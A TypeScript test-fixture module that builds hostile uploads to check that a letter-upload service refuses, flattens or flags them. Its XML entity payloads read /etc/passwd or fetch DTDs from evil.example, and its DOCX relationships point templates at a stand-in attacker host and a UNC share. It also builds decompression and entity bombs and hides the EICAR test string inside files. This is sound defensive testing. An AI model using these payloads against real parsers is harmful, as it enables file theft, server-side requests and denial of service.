import { crc32, deflateSync } from "node:zlib";
import { DOCX, type MediaType } from "@/lib/integrations/reader/media-types";
import { TEST_VIRUS } from "./clamd-server";
import { cut, sample } from "./file-bytes";
import { blankPng, jpegClaiming, lockedPdf, pictureBomb, streamBomb } from "./hostile-files";
import { actingPdfs, noise, packedBombs, pagelessPdfs, pdfWith } from "./hostile-pdfs";
import type { PdfObject } from "./pdf-builder";
import { tiff } from "./tiff-builder";
import { contentTypes, docx, wordParagraph, wordPart, zip } from "./zip-builder";

/** `flattened`: taken as a copy without what acts, or refused where no such copy can be made. */
type Fate = "refused" | "flattened" | "infected";
export type HostileUpload = { name: string; mediaType: MediaType; bytes: Buffer; fate: Fate };

const of =
  (mediaType: MediaType, fate: Fate) =>
  ({ name, bytes }: { name: string; bytes: Buffer }): HostileUpload => ({ name, mediaType, bytes, fate });
const PDF = "application/pdf";

/** Over 300 files that a letter's upload must not take as they are, the same ones at every run. */
export async function hostileUploads(): Promise<HostileUpload[]> {
  return [
    ...(await actingPdfs()).map(of(PDF, "flattened")),
    ...pagelessPdfs().map(of(PDF, "refused")),
    ...[
      ...packedBombs(),
      { name: "a stream of 1.5 GB, twice packed", bytes: streamBomb() },
      { name: "a picture of 60,000 pixels square in a PDF", bytes: pictureBomb() },
      { name: "a password", bytes: await lockedPdf() },
    ].map(of(PDF, "refused")),
    ...cutFiles(),
    ...noisyFiles(),
    ...pictures(),
    ...wordFiles(),
    ...infectedFiles(),
  ];
}

const shares = (count: number, most: number) =>
  Array.from({ length: count }, (_, at) => 0.02 + (at / (count - 1)) * (most - 0.02));

/** What a broken download leaves. */
function cutFiles(): HostileUpload[] {
  const whole: [string, MediaType, number][] = [
    ["denial-02.pdf", PDF, 0.96],
    ["denial-04.pdf", PDF, 0.96],
    ["denial-08.png", "image/png", 0.97],
    ["denial-22.jpg", "image/jpeg", 0.95],
    ["denial-12.docx", DOCX, 0.99],
  ];
  const frame = tiff([{ width: 64, height: 64, pixels: noise("frame", 64 * 64) }]);
  return [
    ...whole.flatMap(([name, mediaType, most]) =>
      shares(18, most).map((share) => ({
        name: `${name} cut off at ${share.toFixed(2)}`,
        mediaType,
        bytes: cut(sample(name), share),
        fate: "refused" as const,
      })),
    ),
    ...shares(10, 0.95).map((share) => ({
      name: `a fax cut off at ${share.toFixed(2)}`,
      mediaType: "image/tiff" as const,
      bytes: cut(frame, share),
      fate: "refused" as const,
    })),
  ];
}

/** The right beginning, and nothing behind it. */
function noisyFiles(): HostileUpload[] {
  const starts: [MediaType, string][] = [
    [PDF, "%PDF-1.7\n"],
    ["image/png", "\x89PNG\r\n\x1a\n"],
    ["image/jpeg", "\xFF\xD8\xFF\xE0"],
    ["image/tiff", "II*\0"],
    [DOCX, "PK\x03\x04"],
  ];
  return starts.flatMap(([mediaType, start]) =>
    [200, 4_000, 90_000].map((length) => ({
      name: `${length} bytes of noise as ${mediaType}`,
      mediaType,
      bytes: Buffer.concat([Buffer.from(start, "latin1"), noise(mediaType, length)]),
      fate: "refused" as const,
    })),
  );
}

function pictures(): HostileUpload[] {
  const frame = { width: 64, height: 64, pixels: Buffer.alloc(64 * 64, 255) };
  return [
    { name: "a PNG of 16,000 pixels square", bytes: blankPng(16_000), mediaType: "image/png" as const },
    {
      name: "a JPEG that claims 65,000 pixels",
      bytes: jpegClaiming(65_000),
      mediaType: "image/jpeg" as const,
    },
    {
      name: "a fax that claims 30,000 pixels",
      bytes: tiff([{ ...frame, width: 30_000, height: 30_000 }]),
      mediaType: "image/tiff" as const,
    },
    {
      name: "a fax whose second page is missing",
      bytes: cut(tiff([frame, { ...frame, pixels: noise("second", 64 * 64) }]), 0.7),
      mediaType: "image/tiff" as const,
    },
  ].map((file) => ({ ...file, fate: "refused" as const }));
}

const ENTITIES: Record<string, string> = {
  "a bomb of entities": `<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">${"bcdefghij"
    .split("")
    .map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghi"[at]};`.repeat(10)}">`)
    .join("")}]>`,
  "an entity of the disk": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  "an entity of the web": '<!DOCTYPE d [<!ENTITY x SYSTEM "http://evil.example/x">]>',
  "an entity for entities": '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
  "a description elsewhere": '<!DOCTYPE d SYSTEM "http://evil.example/x.dtd">',
};

function wordFiles(): HostileUpload[] {
  const paragraph = wordParagraph("Denied");
  const withEntities = (entities: string, part: string) => {
    const xml = `<?xml version="1.0"?>${entities}${wordPart("document", paragraph).slice(21)}`;
    if (part === "word/document.xml") return zip([contentTypes(), { name: part, data: xml }]);
    return docx(paragraph, [{ name: part, data: xml }]);
  };
  const parts = ["document", "header1", "footnotes", "settings", "_rels/document.xml"].map((part) =>
    part.startsWith("_") ? `word/${part}.rels` : `word/${part}.xml`,
  );
  const relation = (kind: string, target: string) =>
    docx(paragraph, [
      {
        name: `word/_rels/${kind === "attachedTemplate" ? "settings" : "document"}.xml.rels`,
        data: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
      },
    ]);
  const targets = [
    "http://evil.example/a.dotm",
    "https://evil.example/a",
    "\\\\evil.example\\share\\a",
    "file:///\\\\evil\\a",
  ];
  return [
    ...Object.entries(ENTITIES).flatMap(([what, entities]) =>
      parts.map((part) => ({ name: `${what} in ${part}`, bytes: withEntities(entities, part) })),
    ),
    ...["attachedTemplate", "oleObject", "image", "frame", "subDocument"].flatMap((kind) =>
      targets.map((target) => ({ name: `${kind} from ${target}`, bytes: relation(kind, target) })),
    ),
    ...[
      "word/embeddings/oleObject1.bin",
      "word/activeX/activeX1.xml",
      "word/activeX/activeX1.bin",
      "word/vbaProject.bin",
    ].map((part) => ({
      name: `a program as ${part}`,
      bytes: docx(paragraph, [{ name: part, data: noise(part, 600) }]),
    })),
    {
      name: "a size that is not so",
      bytes: docx(paragraph, [{ name: "word/styles.xml", data: "<a/>", statedSize: 90 }]),
    },
    {
      name: "20 MB of zeros",
      bytes: docx(paragraph, [{ name: "word/media/a.bmp", data: Buffer.alloc(20_000_000) }]),
    },
  ].map(of(DOCX, "refused"));
}

/** The string that every scanner finds, in each thing that can hold another. */
function infectedFiles(): HostileUpload[] {
  const virus = Buffer.from(TEST_VIRUS, "latin1");
  const attached = (dictionary: string, stream: Buffer): Buffer =>
    pdfWith({
      catalog: "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
      objects: [
        "<< /Type /Filespec /F (eicar.com) /EF << /F 7 0 R >> >>",
        { dictionary: `/Type /EmbeddedFile ${dictionary}`, stream } satisfies PdfObject,
      ],
    });
  const packed = deflateSync(virus);
  const hex = Buffer.from(`${virus.toString("hex")}>`);
  const pdfs: [string, Buffer][] = [
    ["attached as it is", attached("", virus)],
    ["attached and packed", attached("/Filter /FlateDecode", packed)],
    ["attached and packed twice", attached("/Filter [/FlateDecode /FlateDecode]", deflateSync(packed))],
    ["attached in hexadecimal", attached("/Filter /ASCIIHexDecode", hex)],
    ["attached in hexadecimal and packed", attached("/Filter [/FlateDecode /AHx]", deflateSync(hex))],
    ["attached, its filter disguised", attached("/Filter /Fl#61teDecode", packed)],
    [
      "in metadata",
      pdfWith({
        catalog: "/Metadata 6 0 R",
        objects: [{ dictionary: "/Type /Metadata /Subtype /XML /Filter /FlateDecode", stream: packed }],
      }),
    ],
    [
      "in a comment",
      Buffer.concat([pdfWith({}).subarray(0, -6), Buffer.from(`%${TEST_VIRUS}\n%%EOF\n`, "latin1")]),
    ],
  ];
  const member = (name: string): [string, Buffer] => [
    `as ${name}`,
    docx(wordParagraph("Denied"), [{ name, data: virus }]),
  ];
  const words = [
    "word/media/image1.png",
    "word/embeddings/sheet.xlsx",
    "customXml/item1.xml",
    "docProps/thumbnail.jpeg",
    "eicar.com",
  ];
  const png = sample("denial-08.png");
  const intoPng = (type: string, data: Buffer) =>
    Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)]);
  const pngs: [string, Buffer][] = [
    ["in a text of a PNG", intoPng("tEXt", Buffer.concat([Buffer.from("Comment\0"), virus]))],
    ["in a packed text of a PNG", intoPng("zTXt", Buffer.concat([Buffer.from("Comment\0\0"), packed]))],
    [
      "in a packed text of many languages",
      intoPng("iTXt", Buffer.concat([Buffer.from("Comment\0\x01\0\0\0"), packed])),
    ],
    ["in a PNG's profile", intoPng("iCCP", Buffer.concat([Buffer.from("profile\0\0"), packed]))],
  ];
  const jpeg = sample("denial-22.jpg");
  const segment = (marker: number, data: Buffer) => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)]);
  };
  const jpegs: [string, Buffer][] = [
    ["in a comment of a JPEG", segment(0xfe, virus)],
    ["in a JPEG's EXIF", segment(0xe1, Buffer.concat([Buffer.from("Exif\0\0"), virus]))],
    ["in a JPEG's XMP", segment(0xe1, Buffer.concat([Buffer.from("http://ns.adobe.com/xap/1.0/\0"), virus]))],
  ];
  const fax = tiff([{ width: 64, height: 64, pixels: Buffer.alloc(64 * 64, 255) }]);
  const files = (mediaType: MediaType, list: [string, Buffer][]) =>
    list.map(([name, bytes]) => ({
      name: `the test virus ${name}`,
      mediaType,
      bytes,
      fate: "infected" as const,
    }));
  return [
    ...files(PDF, pdfs),
    ...files(DOCX, words.map(member)),
    ...files("image/png", pngs),
    ...files("image/jpeg", jpegs),
    ...files("image/tiff", [["behind a fax", Buffer.concat([fax, virus])]]),
  ];
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}
